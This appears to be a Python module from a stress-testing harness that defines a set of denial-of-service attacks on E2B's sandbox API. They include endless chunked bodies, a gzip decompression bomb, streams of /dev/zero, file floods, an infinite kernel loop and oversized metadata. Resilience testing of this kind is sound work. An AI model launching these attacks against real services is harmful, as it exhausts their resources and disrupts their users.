"""Attacks on E2B's API: what it reads, what it sends, and what it starts."""

from __future__ import annotations

import gzip
import json
import threading
import time

from .attacker import PATIENCE_S, Attacker, Door, Wire, read_beside

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable
    from typing import Any

_MUCH = 64 << 20
_START = "/process.Process/Start"
_CONNECT = "/process.Process/Connect"
_STREAM = ("Content-Type: application/connect+json",)
_GZIP = (*_STREAM, "Connect-Content-Encoding: gzip")
_KERNEL = ("E2b-Sandbox-Port: 49999", "Content-Type: application/json")
_FILL = f"mkdir -p /tmp/much; head -c {_MUCH} /dev/zero > /tmp/zeros"
_MANY = "mkdir -p /tmp/many; cd /tmp/many; seq -f %0200g 15000 | xargs touch"
_TOUCH = "mkdir -p /tmp/watched; cd /tmp/watched; while :; do touch x{1..500}; rm x*; done"


def _token(attacker: Attacker) -> str:
    """Return the token of the sandbox's agent: for that, E2B's API is asked for the sandbox."""
    sandbox = attacker.at.rpartition("/")[2]
    status, text = attacker.call("POST", f"/sandboxes/{sandbox}/connect", {"timeout": 3600})
    if status not in (200, 201):
        raise OSError(f"no sandbox of E2B's API: {status} {text[:300]!r}")
    return f"E2b-Sandbox-Id: {sandbox}\nX-Access-Token: {json.loads(text)['envdAccessToken']}"


def _with(script: str) -> Callable[[Attacker], str]:
    """Prepare by a command in the sandbox."""

    def prepare(attacker: Attacker) -> str:
        attacker.call(
            "POST", f"{attacker.at}/execs", {"argv": ["bash", "-c", script], "wait": True}
        )
        return _token(attacker)

    return prepare


def _beside(script: str) -> Callable[[Attacker], str]:
    """Prepare by a command that goes on."""

    def prepare(attacker: Attacker) -> str:
        attacker.start("bash", "-c", script)
        return _token(attacker)

    return prepare


def _gushing(attacker: Attacker) -> str:
    """Prepare a process that writes without end, and goes on without the client that has started it."""
    token, wire = _token(attacker), attacker.wire()
    started = _form(process={"cmd": "/bin/cat", "args": ["/dev/zero"]}, stdin=False, tag="gush")
    wire.ask("POST", _START, *token.split("\n"), *_STREAM, body=_framed(started))
    if (status := wire.status()) != 200:
        raise OSError(f"no process: {status}")
    wire.sock.recv(1)  # its number is told once it runs
    wire.sock.close()
    return token


def _framed(text: bytes, *, is_compressed: bool = False) -> bytes:
    """Frame a message. Source: the Connect protocol, "Streaming RPCs"."""
    text = gzip.compress(text) if is_compressed else text
    return bytes([is_compressed]) + len(text).to_bytes(4, "big") + text


def _form(**fields: Any) -> bytes:
    return json.dumps(fields).encode()


def _process(script: str) -> bytes:
    return _form(process={"cmd": "/bin/bash", "args": ["-c", script]}, stdin=False)


def _ask(
    method: str, target: str, *headers: str, body: bytes = b"", reads: bool = True
) -> Callable[[Attacker, str], None]:
    """Attack by asking for what is large or without end."""

    def attack(attacker: Attacker, token: str) -> None:
        wire = attacker.wire()
        wire.ask(method, target, *token.split("\n"), *headers, "Connection: close", body=body)
        if not reads:
            wire.sock.recv(1)
            time.sleep(PATIENCE_S)
        wire.read_on()

    return attack


def _send(
    target: str, *headers: str, first: bytes = b"", piece: bytes
) -> Callable[[Attacker, str], None]:
    """Attack by a body without end."""
    chunk = b"%x\r\n%b\r\n" % (len(piece), piece)

    def attack(attacker: Attacker, token: str) -> None:
        wire: Wire = attacker.wire()
        wire.ask("POST", target, *token.split("\n"), *headers, "Transfer-Encoding: chunked")
        wire.sock.settimeout(PATIENCE_S)
        read_beside(wire)
        if first:
            wire.sock.sendall(b"%x\r\n%b\r\n" % (len(first), first))
        while True:
            wire.sock.sendall(chunk)

    return attack


def _upload(attacker: Attacker, token: str) -> None:
    """Send zeros, compressed by a factor of a thousand."""
    where = f"/files?path=/tmp/much/{threading.get_native_id()}"
    kind = ("Content-Type: application/octet-stream", "Content-Encoding: gzip")
    _ask("POST", where, *kind, body=gzip.compress(bytes(_MUCH)))(attacker, token)


_INPUT = "/process.Process/StreamInput"
_SELECTED = _framed(_form(start={"process": {"tag": "none"}}))
_BOMB = _framed(_form(other=" " * (4 << 20)), is_compressed=True) * 16

E2B_DOORS: dict[str, Door] = {
    "e2b-messages": Door(_send(_INPUT, *_STREAM, piece=_framed(b"{}") * 10_000), _token),
    "e2b-compressed": Door(_send(_INPUT, *_GZIP, first=_SELECTED, piece=_BOMB), _token),
    "e2b-output": Door(
        _ask("POST", _START, *_STREAM, body=_framed(_process("exec cat /dev/zero"))), _token
    ),
    "e2b-unread": Door(
        _ask("POST", _CONNECT, *_STREAM, body=_framed(_form(process={"tag": "gush"})), reads=False),
        _gushing,
        16,
    ),
    "e2b-start": Door(_ask("POST", _START, *_STREAM, body=_framed(_process("true"))), _token),
    "e2b-upload": Door(_upload, _with(_FILL)),
    "e2b-download": Door(_ask("GET", "/files?path=/tmp/zeros"), _with(_FILL)),
    "e2b-download-gzip": Door(
        _ask("GET", "/files?path=/tmp/zeros", "Accept-Encoding: gzip"), _with(_FILL)
    ),
    "e2b-list": Door(
        _ask(
            "POST",
            "/filesystem.Filesystem/ListDir",
            "Content-Type: application/json",
            body=_form(path="/tmp/many", depth=1),
        ),
        _with(_MANY),
    ),
    "e2b-watch": Door(
        _ask(
            "POST",
            "/filesystem.Filesystem/WatchDir",
            *_STREAM,
            body=_framed(_form(path="/tmp/watched")),
        ),
        _beside(_TOUCH),
    ),
    "e2b-cells": Door(
        _ask("POST", "/execute", *_KERNEL, body=_form(code="while True: print('x' * 100)")), _token
    ),
    "e2b-metadata": Door(
        _ask(
            "POST",
            "/sandboxes",
            "Content-Type: application/json",
            body=_form(templateID="base", metadata={f"k{n}": "v" * 40 for n in range(200_000)}),
        )
    ),
}
